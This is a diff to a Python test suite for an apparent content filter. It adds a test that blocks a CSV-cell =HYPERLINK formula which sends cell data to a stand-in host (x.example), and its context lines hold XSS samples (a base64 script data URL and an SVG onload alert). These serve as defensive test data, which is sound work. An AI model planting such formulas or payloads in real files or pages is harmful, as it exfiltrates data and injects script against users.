@@ -979,3 +979,10 @@ def test_a_script_capable_data_url_after_a_quote_is_refused(edge):
     check_blocked(edge, ['"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
                          "'data:image/svg+xml,<svg onload=alert(1)>'"])
     check_passes(edge, ["Use a data:text/html URL for quick tests of markup"])
+
+
+def test_a_formula_in_a_csv_field_doubles_its_quotes(edge):
+    """A CSV row's quoted field doubles the formula's quotes
+    ('"=HYPERLINK(""http://..""&A2)"'): the same fetch of a cell's data."""
+    check_blocked(edge, ['10234,"=HYPERLINK(""http://x.example/c?d=""&A2&B2,""Verify"")",2'])
+    check_passes(edge, ['id,name\n1,"Say ""hi"""', '7,"=SUM(B2:B9)",ok'])
